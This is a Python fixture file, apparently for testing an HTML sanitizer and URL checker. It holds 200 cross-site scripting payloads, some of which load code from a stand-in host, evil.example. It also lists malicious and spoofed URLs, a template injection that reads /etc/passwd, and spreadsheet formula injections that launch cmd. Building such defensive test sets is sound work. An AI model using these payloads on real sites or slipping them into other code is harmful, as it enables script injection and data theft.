"""Two hundred texts that try to leave their place in a page: 25 attempts, each in 8 wrappings."""

ATTEMPTS = [
    "<script>alert(1)</script>", "<ScRiPt src=//evil.example/x.js></sCrIpT>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>", "<body onload=alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href=javascript:alert(1)>x</a>", "<form action=//evil.example><input name=q autofocus onfocus=alert(1)></form>",
    "<details open ontoggle=alert(1)>", "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    "<style>@import '//evil.example/x.css';</style>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<base href=//evil.example/>", "<object data=data:text/html,x></object>",
    "<embed src=//evil.example/x.swf>", "<video><source onerror=alert(1)></video>", "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "{{ 7 * 7 }}{% include '/etc/passwd' %}{{ config.__class__ }}",
    "javascript:alert(document.domain)", "data:text/html,<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;&#60;img src=x&#62;",
    "\u202e<img src=x onerror=alert(1)>\u202c\u2066",
]

WRAPPINGS = ["{}", '"{}', "'{}", '">{}', "-->{}<!--", "</style></title></textarea></script>{}", "]]>{}<![CDATA[", "\x00\x1b{}\r\n\t{}"]

PAYLOADS = [wrapping.replace("{}", attempt) for wrapping in WRAPPINGS for attempt in ATTEMPTS]

BAD_URLS = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)",
    "\x01javascript:alert(1)",
    "vbscript:msgbox(1)", "data:text/html,<script>alert(1)</script>", "file:///etc/passwd", "ftp://news.example/x", "//evil.example/x",
    "/relative", "relative.html", "#top", "?q=1", "", "mailto:a@b.example", "blob:https://news.example/1", "https:", "https://", "http:///x",
    "https://user@evil.example/", "https://user:secret@news.example/", "https://news.example\\@evil.example/", "https://[::1",
    "http://a b.example/", "https://news.example/\u202egpj.exe", "https://news.example/" + "a" * 3000, "view-source:https://news.example/", "feed://news.example/rss",
]

GOOD_URLS = ["https://news.example/a?b=1&c='2'#d", "http://news.example:8080/über/東京", "https://news.example/%22%3E%3Cscript%3E"]

FORMULAS = ["=HYPERLINK(\"//evil.example\")", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "=1+1\";=1"]
